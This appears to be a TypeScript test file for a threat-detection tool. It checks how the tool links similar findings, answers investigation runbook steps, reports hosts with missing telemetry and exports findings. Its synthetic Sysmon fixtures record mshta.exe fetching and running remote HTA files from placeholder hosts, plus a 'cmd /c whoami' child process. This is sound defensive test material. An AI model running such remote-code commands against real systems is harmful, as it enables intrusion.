import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { setEnvironment } from '../base/testEnvironment';
import { findingDetail, runbookView } from '../contracts/findings';
import { addComment, setFlag } from '../storage/annotations';
import { closeStorage, pool } from '../storage/client';
import { createTestDatabase, type TestDatabase } from '../storage/testDatabase';
import { giveVerdict } from './decideFinding';
import { exportFinding } from './exports/exportFinding';
import { stixBundleShape } from './exports/testStixShapes';
import { readFinding } from './readFinding';
import { readRunbook } from './readRunbook';
import { importWhole } from './testImports';
import { type TestRecord, toLines } from './testRecords';
import { connection, file, query, quiet, start } from './testSysmon';

let database: TestDatabase;
let spoolDir: string;
let restore: () => void;

/** mshta runs a remote HTA, writes a file and calls out. */
function chain(host: string, line: string): readonly TestRecord[] {
  return [
    ...quiet(host, '2026-11-20T08:00', 12),
    start(host, '2026-11-20T09:00:00', 1, 'C:\\Windows\\System32\\mshta.exe', line),
    query(host, '2026-11-20T09:00:01', 1, 'cdn.example.net', '198.51.100.7'),
    connection(host, '2026-11-20T09:00:02', 1, '198.51.100.7'),
    file(host, '2026-11-20T09:00:03', 1, 'C:\\Users\\anna\\AppData\\Local\\Temp\\run.js'),
    ...quiet(host, '2026-11-20T09:10', 12),
  ];
}

beforeAll(async () => {
  spoolDir = await mkdtemp(path.join(os.tmpdir(), 'sequela-spool-'));
  database = await createTestDatabase();
  restore = setEnvironment({ DATABASE_URL: database.url });
  const line = 'mshta "https://cdn.example.net/a b.hta" (x or *)';
  await importWhole(
    toLines([
      ...chain('WS1', line),
      ...chain('WS2', line),
      ...chain('WS3', 'mshta https://cdn.example.net/other.hta'),
    ]),
    'three.json',
    spoolDir,
  );
});
afterAll(async () => {
  await closeStorage();
  restore();
  await database.drop();
  await rm(spoolDir, { recursive: true, force: true });
});

async function findingOn(host: string): Promise<string> {
  const { rows } = await pool().query<{ id: string }>(
    `SELECT f.id FROM findings f JOIN hosts h ON h.id = f.host_id WHERE lower(h.name) = lower($1) AND f.analytic = 'AN1397'`,
    [host],
  );
  return rows[0]?.id ?? '';
}

describe('findings like one', () => {
  it('share images, root and destination, with what people said of them', async () => {
    await giveVerdict(
      await findingOn('WS2'),
      { verdict: 'benign_true_positive', reason: 'a test' },
      {
        name: 'anna',
        role: 'analyst',
      },
    );
    const detail = findingDetail.parse(await readFinding(await findingOn('WS1')));
    expect(detail.similarTotal).toBe(2);
    const other = detail.similar.find(({ host }) => host.toLowerCase() === 'ws2');
    expect(other).toMatchObject({
      because: ['shape', 'root', 'destination'],
      destination: '198.51.100.7',
      verdict: 'benign_true_positive',
      verdictBy: 'anna',
      verdictReason: 'a test',
    });
  });

  it('are none without anything in common', async () => {
    const id = await findingOn('WS3');
    await pool().query(`UPDATE findings SET shape = 'x', root = NULL, destinations = '{}' WHERE id = $1`, [
      id,
    ]);
    expect((await readFinding(id)).similarTotal).toBe(0);
  });
});

describe('the runbook of a finding', () => {
  it('is answered from the events of its processes, of its host and of the others', async () => {
    const { steps } = runbookView.parse(await readRunbook(await findingOn('WS1')));
    const step = (words: RegExp) => steps.find(({ text }) => words.test(text));
    expect(step(/what its processes wrote/i)).toMatchObject({ state: 'answered', total: 1 });
    expect(step(/what its processes wrote/i)?.events[0]?.text).toMatch(/^mshta\.exe wrote .*run\.js$/);
    expect(step(/same command line/)).toMatchObject({ state: 'answered', total: 1 });
    expect(step(/same command line/)?.answer).toMatch(/^1 event on 1 other host: ws2\.$/i);
    expect(step(/same destination/)?.query).toMatch(
      /domain:cdn\.example\.net or destination\.ip:198\.51\.100\.7/,
    );
    expect(step(/same destination/)?.answer).toMatch(/on 2 other hosts: /);
    expect(step(/Fetch the HTA/)).toMatchObject({ state: 'person', answer: null, query: null });
  });

  it('says of nothing found that it could not have been seen, where that is so', async () => {
    const { steps } = await readRunbook(await findingOn('WS1'));
    const persistence = steps.find(({ text }) => /persistence/.test(text));
    expect(persistence).toMatchObject({ state: 'blind', total: 0 });
    expect(persistence?.answer).toMatch(/registry_set/);
  });

  it('does not take silence for absence of kinds that its host never wrote, however rare they are', async () => {
    const { steps } = await readRunbook(await findingOn('WS1'));
    const setUp = steps.find(({ text }) => /set up on the host/.test(text));
    expect(setUp).toMatchObject({ state: 'blind', total: 0 });
    expect(setUp?.answer).toMatch(
      /no task_create or service_install records from this host; whether .* not known/,
    );
  });
});

describe('the documents of a finding', () => {
  it('are valid, tell what analysts noted, and are the same bytes each time', async () => {
    const id = await findingOn('WS1');
    const detail = await readFinding(id);
    const event = detail.stages.flatMap(({ events }) => events)[0]?.eventId ?? '';
    await setFlag(event, true, 'ben');
    await addComment(event, 'seen before', 'ben');

    const stix = await exportFinding(id, 'stix');
    expect(stixBundleShape.safeParse(JSON.parse(stix.content)).error?.issues ?? []).toEqual([]);
    const lines = (await exportFinding(id, 'timesketch')).content.trimEnd().split('\n');
    const line = z.looseObject({
      message: z.string(),
      datetime: z.string(),
      timestamp_desc: z.string(),
      tag: z.array(z.string()),
    });
    const read = lines.map((text) => line.parse(JSON.parse(text)));
    expect(read.some(({ tag }) => tag.includes('flagged'))).toBe(true);
    for (const format of ['markdown', 'html'] as const) {
      const { content } = await exportFinding(id, format);
      expect(content).toContain('seen before');
      expect(content).toContain('three.json');
      expect(content).toMatch(/on 1 other host/);
    }
    for (const format of ['markdown', 'html', 'json', 'stix', 'timesketch'] as const)
      expect(await exportFinding(id, format), format).toEqual(await exportFinding(id, format));
  });
});

describe('the runbook of a finding among hosts that see little', () => {
  /** mshta starts a program and writes a file; no network is recorded. */
  const rich = (host: string): readonly TestRecord[] => [
    ...quiet(host, '2026-11-21T08:00', 12),
    start(
      host,
      '2026-11-21T09:00:00',
      1,
      'C:\\Windows\\System32\\mshta.exe',
      'mshta https://files.example.org/b.hta',
    ),
    {
      ...start(host, '2026-11-21T09:00:02', 2, 'C:\\Windows\\System32\\cmd.exe', 'cmd /c whoami'),
      ParentProcessGuid: '{11111111-2222-3333-4444-000000000001}',
      ParentProcessId: 1001,
      ParentImage: 'C:\\Windows\\System32\\mshta.exe',
    },
    file(host, '2026-11-21T09:00:03', 1, 'C:\\Users\\anna\\AppData\\Local\\Temp\\load.js'),
    ...quiet(host, '2026-11-21T09:10', 12),
  ];
  beforeAll(async () => {
    await importWhole(
      toLines([...rich('WS4'), ...quiet('WS5', '2026-11-20T08:00', 30)]),
      'little.json',
      spoolDir,
    );
  });
  const stepOf = async (host: string, words: RegExp) =>
    (await readRunbook(await findingOn(host))).steps.find(({ text }) => words.test(text));

  it('asks of the anchor itself, whichever time of its start was stored', async () => {
    for (const set of ['started_at - 300000', 'NULL']) {
      await pool().query(`UPDATE processes SET started_at = ${set} WHERE image ILIKE '%mshta.exe'
        AND host_id = (SELECT id FROM hosts WHERE name = 'ws4')`);
      const wrote = await stepOf('WS4', /what its processes wrote/i);
      expect(wrote, set).toMatchObject({ state: 'answered', total: 1 });
    }
  });

  it('leaves the start of the anchor out and says which needed kind could not be seen beside what was', async () => {
    const follow = await stepOf('WS4', /Follow every child/);
    expect(follow).toMatchObject({ state: 'answered', total: 1 });
    expect(follow?.events[0]?.text).toMatch(/cmd\.exe/);
    expect(follow?.answer).toMatch(/^1 event by the processes .* Not all else .*no network_connect/);
  });

  it('says of other hosts how many could not have shown it', async () => {
    const reached = await stepOf('WS1', /same destination/);
    expect(reached?.state).toBe('answered');
    expect(reached?.answer).toMatch(
      /^4 events on 2 other hosts: .*\. Of 4 other hosts, 2 could not have shown it \(no network_connect or dns_query/,
    );
  });

  it('claims nothing of other hosts where most of them could not have shown it', async () => {
    const ran = await stepOf('WS4', /same command line/);
    expect(ran).toMatchObject({ state: 'answered', total: 0 });
    expect(ran?.answer).toMatch(
      /^Nothing of the kind on any other host\. Of 4 other hosts, 4 could have shown only/,
    );
    await pool().query(`INSERT INTO blind_intervals (host_id, kind, "from", "to", reason)
      SELECT id, 0, -9007199254740991, 9007199254740991, 'x' FROM hosts WHERE name IN ('ws1', 'ws2', 'ws3')
      ON CONFLICT (host_id, kind, "from") DO UPDATE SET "to" = excluded."to"`);
    const blind = await stepOf('WS4', /same command line/);
    expect(blind).toMatchObject({ state: 'blind', total: 0 });
    expect(blind?.answer).toMatch(/of 4 other hosts, 3 could not have shown it \(no process_start/);
  });
});
